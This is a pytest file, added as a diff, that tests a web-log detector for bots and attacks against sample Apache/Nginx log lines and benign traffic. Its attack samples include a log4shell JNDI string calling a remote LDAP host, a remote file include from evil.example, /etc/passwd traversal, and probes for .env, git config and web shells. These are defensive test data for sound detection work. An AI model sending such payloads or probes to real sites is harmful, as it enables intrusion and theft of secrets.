@@ -1,0 +1,376 @@
+"""Rule families, tested the way fail2ban tests its filters: sample log lines, written as a web server writes them
+(Apache/Nginx combined), each annotated with the rules it must trip and whether its address must be flagged.
+
+The attack shapes come from the public rule sets' own samples and documentation: fail2ban's apache-badbots,
+apache-botsearch / nginx-botsearch, apache-noscript, php-url-fopen and apache-fakegooglebot filters; CrowdSec's
+http-probing, http-sensitive-files, http-admin-interface-probing, http-backdoors-attempts, http-bad-user-agent,
+http-wordpress_wpconfig and http-generic-bf scenarios; the OWASP CRS scanner-detection user agents. The hard benign
+cases (busy humans, a campus NAT, a feed reader, an uptime monitor, a genuine Googlebot from its published range,
+a developer hammering their own API, a mobile app behind carrier NAT) must trip nothing that flags.
+
+Every sample is judged inside the same background: readers of a small blog at blog.example.org who load pages,
+their assets and follow the site's own links, so the detector learns what a browser on this site looks like.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from nexus_backend.tracking.detection.aggregate import Aggregator, agent_oddity
+from nexus_backend.tracking.detection.detector import by_ip, judge
+from nexus_backend.tracking.detection.parsers import Record, parse_line
+from nexus_backend.tracking.detection.rules import load_rules
+
+CHROME = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
+)
+FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
+SAFARI = (
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/17.6 Mobile/15E148 Safari/604.1"
+)
+GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
+SITE = "https://blog.example.org"
+DAY = "03/Mar/2025"
+
+
+def line(ip, request, status=200, *, referrer="-", agent=CHROME, second=0):
+    """One combined log line at 10:mm:ss on ``DAY`` (every sample lies in the 10:00 window)."""
+    stamp = f"{DAY}:10:{second // 60 % 60:02d}:{second % 60:02d} +0000"
+    return f'{ip} - - [{stamp}] "{request}" {status} 512 "{referrer}" "{agent}"'
+
+
+def records(lines):
+    out = []
+    for text in lines:
+        rec = parse_line("combined", text)
+        assert isinstance(rec, Record), f"sample line does not parse: {text!r} ({rec})"
+        out.append(rec)
+    return out
+
+
+def reader(ip, agent, start=0):
+    """A human reading two posts: the pages, their assets, links followed inside the site."""
+    return [
+        line(ip, "GET / HTTP/2.0", agent=agent, second=start),
+        line(ip, "GET /static/site.css HTTP/2.0", referrer=f"{SITE}/", agent=agent, second=start + 1),
+        line(ip, "GET /static/app.js HTTP/2.0", referrer=f"{SITE}/", agent=agent, second=start + 1),
+        line(ip, "GET /posts/hello-world/ HTTP/2.0", referrer=f"{SITE}/", agent=agent, second=start + 30),
+        line(ip, "GET /static/site.css HTTP/2.0", 304, referrer=f"{SITE}/posts/hello-world/", agent=agent,
+             second=start + 31),
+        line(ip, "GET /posts/second/ HTTP/2.0", referrer=f"{SITE}/posts/hello-world/", agent=agent, second=start + 90),
+    ]  # fmt: skip
+
+
+BACKGROUND = [x for i in range(12) for x in reader(f"198.18.0.{i + 1}", (CHROME, FIREFOX, SAFARI)[i % 3], i * 7)]
+
+
+def verdicts(lines, rules=None):
+    rules = rules or load_rules()
+    agg = Aggregator(rules)
+    agg.add_records(records(BACKGROUND + lines))
+    return by_ip(judge(agg, rules))
+
+
+# (what, its log lines, the address judged, rules it must trip, must it be flagged)
+ATTACKS = [
+    # --- probes for software the site does not run: ONE request is enough (apache-botsearch / nginx-botsearch)
+    ("one WordPress login probe", [line("203.0.113.10", "GET /wp-login.php HTTP/1.1", 404)], "203.0.113.10",
+     {"cms_probe"}),
+    ("upper-case probe is the same probe", [line("203.0.113.11", "GET /WP-LOGIN.PHP HTTP/1.1", 404)], "203.0.113.11",
+     {"cms_probe"}),
+    ("phpMyAdmin setup probe", [line("203.0.113.12", "GET /phpMyAdmin/scripts/setup.php HTTP/1.1", 404)],
+     "203.0.113.12", {"cms_probe"}),
+    ("XML-RPC probe", [line("203.0.113.13", "POST /xmlrpc.php HTTP/1.1", 404)], "203.0.113.13", {"cms_probe"}),
+    ("an environment file (http-sensitive-files)", [line("203.0.113.14", "GET /.env HTTP/1.1", 404)], "203.0.113.14",
+     {"cms_probe"}),
+    ("a git config", [line("203.0.113.15", "GET /.git/config HTTP/1.1", 404)], "203.0.113.15", {"cms_probe"}),
+    ("wp-config backup (http-wordpress_wpconfig)", [line("203.0.113.16", "GET /wp-config.php.bak HTTP/1.1", 404)],
+     "203.0.113.16", {"cms_probe"}),
+    ("a web shell (http-backdoors-attempts)", [line("203.0.113.17", "GET /wp-content/plugins/x/shell.php HTTP/1.1",
+     404)], "203.0.113.17", {"cms_probe"}),
+    ("a secret answered 200 is still a probe", [line("203.0.113.18", "GET /.env HTTP/1.1", 200)], "203.0.113.18",
+     {"cms_probe"}),
+    ("php-url-fopen: a remote include on a PHP page this site does not run", [line("203.0.113.19",
+     "GET /index.php?page=http://evil.example/x.txt HTTP/1.1",
+     404)], "203.0.113.19", {"cms_probe"}),
+    ("path traversal", [line("203.0.113.20", "GET /static/../../etc/passwd HTTP/1.1", 400)], "203.0.113.20",
+     {"cms_probe"}),
+    # --- scanners and bad bots by user agent (apache-badbots, CRS scanner-detection, http-bad-user-agent)
+    ("sqlmap", [line("203.0.113.30", "GET /posts/?id=1 HTTP/1.1", agent="sqlmap/1.7.2#stable (https://sqlmap.org)")],
+     "203.0.113.30", {"bad_user_agent"}),
+    ("nuclei", [line("203.0.113.31", "GET / HTTP/1.1", agent="Mozilla/5.0 (compatible; Nuclei - Open-source project "
+     "(github.com/projectdiscovery/nuclei))")], "203.0.113.31", {"bad_user_agent"}),
+    ("an e-mail harvester (apache-badbots)", [line("203.0.113.32", "GET /contact/ HTTP/1.0", agent="EmailCollector")],
+     "203.0.113.32", {"bad_user_agent"}),
+    ("a log4shell probe in the agent", [line("203.0.113.33", "GET / HTTP/1.1",
+     agent="${jndi:ldap://203.0.113.99:1389/a}")], "203.0.113.33", {"bad_user_agent"}),
+    # --- impossible and obsolete user agents
+    ("Chrome 120 on Windows XP does not exist", [line("203.0.113.40", "GET / HTTP/1.1", agent="Mozilla/5.0 "
+     "(Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")], "203.0.113.40",
+     {"obsolete_agent"}),
+    ("IE 6 on XP that loads nothing", [line("203.0.113.41", "GET /posts/hello-world/ HTTP/1.1",
+     agent="Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)")], "203.0.113.41",
+     {"obsolete_agent", "fake_browser"}),
+    # --- spam
+    ("a trackback from a client that loaded no page", [line("203.0.113.50", "POST /posts/hello-world/trackback/ "
+     "HTTP/1.1", agent="WordPress/6.4; http://spam.example")], "203.0.113.50", {"spam_signature"}),
+    ("comment spam: GET the form, POST it a second later, no asset", [
+        line("203.0.113.51", "GET /contact/ HTTP/1.1", second=100),
+        line("203.0.113.51", "POST /contact/ HTTP/1.1", 302, second=101),
+    ], "203.0.113.51", {"form_spam"}),
+    ("form spam that never loads the form", [line("203.0.113.52", "POST /posts/hello-world/comment HTTP/1.1", 302)],
+     "203.0.113.52", {"form_spam"}),
+    ("a blind login POST (a brute-force script)", [line("203.0.113.55", "POST /wp-login.php HTTP/1.1", 200)],
+     "203.0.113.55", {"cms_probe"}),
+    ("referrer spam: a spam word in the referring host", [line("203.0.113.53", "GET / HTTP/1.1",
+     referrer="http://best-seo-offer.example/")], "203.0.113.53", {"referrer_spam"}),
+    ("referrer spam: one page again and again from one off-site referrer, nothing loaded", [
+        line("203.0.113.54", "GET / HTTP/1.1", referrer="http://shop-bargains.example.net/", second=s)
+        for s in (0, 700, 1400)
+    ], "203.0.113.54", {"referrer_spam"}),
+    # --- requests no browser sends
+    ("a TLS handshake on the plain port", [line("203.0.113.60", r"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03", 400,
+     agent="-")], "203.0.113.60", {"bad_request"}),
+    ("an open-proxy test", [line("203.0.113.61", "CONNECT www.example.com:443 HTTP/1.1", 405)], "203.0.113.61",
+     {"bad_request"}),
+    ("an absolute URL (proxy request)", [line("203.0.113.62", "GET http://www.example.com/ HTTP/1.1", 404)],
+     "203.0.113.62", {"bad_request"}),
+    # --- behaviour
+    ("user-agent rotation: one address, a new browser every request, no asset",
+     [line("203.0.113.70", f"GET /posts/p{i}/ HTTP/1.1", agent=CHROME.replace("131.0", f"{100 + i}.0"),
+           second=i * 40) for i in range(6)],
+     "203.0.113.70", {"agent_rotation"}),
+    ("admin-interface probing (refused, repeated)", [line("203.0.113.71", f"GET {p} HTTP/1.1", 404) for p in
+     ("/admin/", "/admin/login/", "/login/")], "203.0.113.71", {"sensitive_paths"}),
+    ("brute force on the login form", [line("203.0.113.72", "POST /login/ HTTP/1.1", 401, second=s) for s in
+     range(0, 600, 100)], "203.0.113.72", {"auth_failures"}),
+    ("a fake Googlebot that probes (apache-fakegooglebot)", [line("203.0.113.73", "GET /wp-login.php HTTP/1.1", 404,
+     agent=GOOGLEBOT)], "203.0.113.73", {"fake_crawler", "cms_probe"}),
+    ("IPv6 rotation inside one /64 is one client", [
+        line(f"2001:db8:5:6::{i:x}", f"GET /p{i}/ HTTP/1.1", 404, agent=f"{FIREFOX[:-5]}{120 + i}.0", second=i)
+        for i in range(1, 7)
+    ], "2001:db8:5:6::/64", {"agent_rotation"}),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("what", "lines", "ip", "must"), ATTACKS, ids=[a[0] for a in ATTACKS])
+def test_attack_shapes_are_flagged(what, lines, ip, must):
+    found = verdicts(lines)
+    assert ip in found, f"{what}: tripped nothing"
+    f = found[ip]
+    assert must <= set(f.rules), f"{what}: must trip {must - set(f.rules)} (tripped {f.rules})"
+    assert f.flagged, f"{what}: tripped {f.rules} with score {f.score}, below the threshold"
+
+
+def test_distributed_login_failures_flag_the_campaign_not_one_address():
+    tries = [line(f"203.0.113.{100 + i}", "POST /login/ HTTP/1.1", 401, agent="python-requests/2.32",
+                  second=i * 300) for i in range(6)]  # fmt: skip
+    found = verdicts(tries)
+    assert all(found[f"203.0.113.{100 + i}"].flagged for i in range(6))
+    assert all("login_campaign" in found[f"203.0.113.{100 + i}"].rules for i in range(6))
+    # one address failing once is no campaign (a blind POST by a tool is still noted, below the threshold)
+    alone = verdicts(tries[:1])["203.0.113.100"]
+    assert "login_campaign" not in alone.rules and not alone.flagged
+
+
+def test_graphql_mutations_are_seen_by_the_login_and_vote_rules():
+    logins = [line("203.0.113.80", "POST /graphql/mutation/tokenAuth HTTP/1.1", 401, second=s) for s in range(6)]
+    votes = [line(f"203.0.113.{150 + i}", "POST /graphql/mutation/vote HTTP/1.1", 201) for i in range(10)]
+    found = verdicts(logins + votes)
+    assert "auth_failures" in found["203.0.113.80"].rules and found["203.0.113.80"].flagged
+    assert all("fingerprint_burst" in found[f"203.0.113.{150 + i}"].rules for i in range(10))
+
+
+def test_admin_path_follows_the_setting(settings):
+    settings.NEXUS_ADMIN_PATH = "staff-7f3a/"
+    rules = load_rules()
+    probing = [line("203.0.113.90", f"GET /staff-7f3a/{p} HTTP/1.1", 302) for p in ("", "polls/", "auth/")]
+    assert "sensitive_paths" in verdicts(probing, rules)["203.0.113.90"].rules
+    stuffing = [line("203.0.113.91", "POST /staff-7f3a/login/ HTTP/1.1", 401, second=s) for s in range(6)]
+    assert "auth_failures" in verdicts(stuffing, rules)["203.0.113.91"].rules
+
+
+def test_every_flag_names_the_requests_behind_each_rule():
+    f = verdicts([line("203.0.113.10", "GET /wp-login.php HTTP/1.1", 404)])["203.0.113.10"]
+    assert f.evidence["cms_probe"]["requests"] == ["GET /wp-login.php 404"]
+    assert "wordpress" in f.reasons[0] and "GET /wp-login.php 404" in f.reasons[0]
+
+
+# ------------------------------------------------------------------------------------------- hard benign
+
+
+def _monitor():
+    agent = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
+    return [line("203.0.114.1", "HEAD / HTTP/1.1", agent=agent, second=s) for s in range(0, 3600, 60)]
+
+
+def _feed_reader():
+    agent = "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)"
+    return [line("203.0.114.2", "GET /feed/ HTTP/1.1", 304, agent=agent, second=s) for s in range(0, 3600, 600)]
+
+
+def _busy_human():
+    pages = [f"/posts/p{i}/" for i in range(120)]
+    out = []
+    for i, page in enumerate(pages):
+        out += [
+            line("203.0.114.3", f"GET {page} HTTP/2.0", referrer=f"{SITE}/", agent=FIREFOX, second=i * 25),
+            line("203.0.114.3", "GET /static/site.css HTTP/2.0", 304, referrer=f"{SITE}{page}", agent=FIREFOX,
+                 second=i * 25),
+        ]  # fmt: skip
+    out.append(line("203.0.114.3", "GET /posts/missing/ HTTP/2.0", 404, referrer=f"{SITE}/", agent=FIREFOX))
+    return out
+
+
+def _campus_nat():
+    out = []
+    for i in range(40):
+        agent = (CHROME, FIREFOX, SAFARI)[i % 3].replace("131.0", f"{125 + i % 7}.0")
+        out += [x.replace(f"198.18.0.{1 + i % 12} ", "203.0.114.4 ", 1) for x in reader(f"198.18.0.{1 + i % 12}",
+                agent, i * 60)]  # fmt: skip
+        if i % 8 == 0:
+            out.append(line("203.0.114.4", "POST /login/ HTTP/2.0", 401, referrer=f"{SITE}/login/", agent=agent))
+        out.append(line("203.0.114.4", "POST /login/ HTTP/2.0", 302, referrer=f"{SITE}/login/", agent=agent))
+    return out
+
+
+def _genuine_googlebot():
+    # 66.249.66.1 is inside Google's published googlebot.json; it even follows a stale link to a probe path
+    out = [line("66.249.66.1", f"GET /posts/p{i}/ HTTP/1.1", agent=GOOGLEBOT, second=i * 10) for i in range(300)]
+    return out + [line("66.249.66.1", "GET /wp-login.php HTTP/1.1", 404, agent=GOOGLEBOT)]
+
+
+def _developer():
+    agent = "python-requests/2.32.3"
+    out = [line("203.0.114.5", "GET /api/polls/1/ HTTP/1.1", agent=agent, second=i % 3600) for i in range(3000)]
+    return out + [line("203.0.114.5", "POST /api/polls/1/vote/ HTTP/1.1", 400, agent=agent) for _ in range(20)]
+
+
+def _mobile_app_nat():
+    agent = "NexusPolls/2.3 (iPhone; iOS 17.1) CFNetwork/1474 Darwin/23.1.0"
+    out = [line("203.0.114.6", f"GET /api/polls/{i % 50}/ HTTP/2.0", agent=agent, second=i % 3600) for i in range(800)]
+    out += [line("203.0.114.6", "POST /api/auth/token/ HTTP/2.0", 200, agent=agent) for _ in range(60)]
+    return out + [line("203.0.114.6", "POST /api/auth/token/ HTTP/2.0", 401, agent=agent) for _ in range(6)]
+
+
+def _reader_from_a_link():
+    ref = "https://news.ycombinator.com/item?id=1"
+    return [
+        line("203.0.114.7", "GET /posts/hello-world/ HTTP/2.0", referrer=ref, agent=SAFARI),
+        line("203.0.114.7", "GET /static/site.css HTTP/2.0", referrer=f"{SITE}/posts/hello-world/", agent=SAFARI),
+        line("203.0.114.8", "GET /posts/hello-world/ HTTP/2.0", referrer="https://a-friends-blog.example/links/"),
+        line("203.0.114.8", "GET /static/site.css HTTP/2.0", referrer=f"{SITE}/posts/hello-world/"),
+    ]
+
+
+def _comment_after_an_hour():
+    # the page was read in the previous window; its assets are cached, so only the POST shows here
+    return [line("203.0.114.10", "POST /posts/hello-world/comment HTTP/2.0", 302, referrer=f"{SITE}/posts/hello-world/",
+                 agent=SAFARI)]  # fmt: skip
+
+
+def _login_across_the_hour():
+    # the login page was loaded at 09:59; the POST (a success: redirected) lands in the 10:00 window
+    return [line("203.0.114.11", "POST /login/ HTTP/2.0", 302, referrer=f"{SITE}/login/", agent=FIREFOX)]
+
+
+def _carrier_nat_logins():
+    agent = "NexusPolls/2.3 (Android 14; Pixel 8) okhttp/4.12.0"
+    fails = [line("203.0.114.12", "POST /login/ HTTP/2.0", 200, agent=agent, second=s) for s in range(0, 500, 100)]
+    return fails + [line("203.0.114.12", "POST /login/ HTTP/2.0", 302, agent=agent, second=s) for s in (50, 450)]
+
+
+def _typing_a_url():
+    return [line("203.0.114.9", "GET /posts/hello-world/ HTTP/2.0", agent=SAFARI)]
+
+
+BENIGN = [
+    ("uptime monitor", _monitor, "203.0.114.1"),
+    ("feed reader", _feed_reader, "203.0.114.2"),
+    ("busy human", _busy_human, "203.0.114.3"),
+    ("campus NAT", _campus_nat, "203.0.114.4"),
+    ("genuine Googlebot from its published range", _genuine_googlebot, "66.249.66.1"),
+    ("developer hammering their own API", _developer, "203.0.114.5"),
+    ("mobile app behind carrier NAT, one agent, no referrer", _mobile_app_nat, "203.0.114.6"),
+    ("readers arriving from links", _reader_from_a_link, "203.0.114.7"),
+    ("a reader following a small blog's link", _reader_from_a_link, "203.0.114.8"),
+    ("one page typed into the address bar", _typing_a_url, "203.0.114.9"),
+    ("a comment on a page read an hour earlier", _comment_after_an_hour, "203.0.114.10"),
+    ("a login whose form was loaded in the previous window", _login_across_the_hour, "203.0.114.11"),
+    ("a carrier NAT: typos between successful logins", _carrier_nat_logins, "203.0.114.12"),
+]
+
+
+@pytest.mark.parametrize(("what", "make", "ip"), BENIGN, ids=[b[0] for b in BENIGN])
+def test_hard_benign_traffic_is_not_flagged(what, make, ip):
+    found = verdicts(make())
+    assert ip not in found or not found[ip].flagged, f"{what}: flagged by {found[ip].rules} ({found[ip].reasons})"
+
+
+def test_the_background_readers_trip_nothing():
+    assert not verdicts([])
+
+
+def test_a_site_that_runs_wordpress_is_not_probed_by_its_readers():
+    """Where /wp-content/ answers 2xx to readers, WordPress paths are the site's pages: a reader commenting
+    (the page loaded, then the comment POSTed) is no probe and no spam; a blind XML-RPC POST still is spam."""
+    wp = []
+    for i in range(5):
+        ip = f"198.19.0.{i + 1}"
+        wp += [
+            line(ip, "GET /2024/05/hello/ HTTP/2.0", referrer=f"{SITE}/"),
+            line(ip, "GET /wp-content/themes/t/style.css HTTP/2.0", referrer=f"{SITE}/2024/05/hello/"),
+            line(ip, "GET /wp-includes/js/jquery.min.js HTTP/2.0", referrer=f"{SITE}/2024/05/hello/"),
+        ]
+    wp += [line("198.19.0.1", "POST /wp-comments-post.php HTTP/2.0", 302, referrer=f"{SITE}/2024/05/hello/",
+                second=120)]  # fmt: skip
+    wp += [line("203.0.113.120", "POST /xmlrpc.php HTTP/1.1", 200, agent="Mozilla/5.0 (compatible)")]
+    # a slow brute force: one blind POST to the login form, its own URL as referrer (what the tools send)
+    wp += [line("203.0.113.121", "POST /wp-login.php HTTP/1.1", 200, referrer=f"{SITE}/wp-login.php")]
+    found = verdicts(wp)
+    assert not any(f.flagged for ip, f in found.items() if ip.startswith("198.19."))
+    assert {"spam_signature"} <= set(found["203.0.113.120"].rules) and found["203.0.113.120"].flagged
+    assert {"form_spam"} <= set(found["203.0.113.121"].rules) and found["203.0.113.121"].flagged
+
+
+def test_probes_answered_200_by_a_catch_all_are_still_probes():
+    """A site answering 200 to every path does not "serve" WordPress because scanners got a 200 for it: serving
+    is learned from readers (a referrer, assets loaded), not from whoever asked."""
+    probes = [line(f"203.0.113.{140 + i}", "GET /wp-login.php HTTP/1.1", 200, referrer=f"{SITE}/") for i in range(6)]
+    found = verdicts(probes)
+    assert all("cms_probe" in found[f"203.0.113.{140 + i}"].rules for i in range(6))
+
+
+def test_a_crawler_claim_alone_is_weak():
+    found = verdicts([line("203.0.113.130", "GET /posts/hello-world/ HTTP/1.1", agent=GOOGLEBOT)])
+    assert found["203.0.113.130"].rules == ["fake_crawler"] and not found["203.0.113.130"].flagged
+
+
+def test_two_weak_signals_stay_under_the_threshold():
+    """The calibration rules.yaml states: a weak signal scores < 0.3, and any two of them stay under the threshold."""
+    rules = load_rules()
+    weak = {name: p["score"] for name, p in rules.data["rules"].items() if p["score"] < 0.3}
+    weak |= {"bad_user_agent (absent)": rules.rule("bad_user_agent")["absent_score"]}
+    assert {"fake_browser", "volume", "bad_user_agent (absent)"} <= set(weak)
+    top = sorted(weak.values())[-2:]
+    assert 1 - (1 - top[0]) * (1 - top[1]) < rules.threshold
+
+
+@pytest.mark.parametrize(
+    ("agent", "oddity"),
+    [
+        (CHROME, 0),
+        (FIREFOX, 0),
+        (SAFARI, 0),
+        ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)", 1),
+        ("Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.0.1) Gecko/2008070208 Firefox/3.0.1", 1),
+        ("Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", 2),
+        ("Mozilla/5.0", 2),
+        ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1) Chrome/99.0", 2),
+        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 0),
+        ("curl/8.5.0", 0),
+    ],
+)
+def test_user_agent_oddity(agent, oddity):
+    assert agent_oddity(agent) == oddity
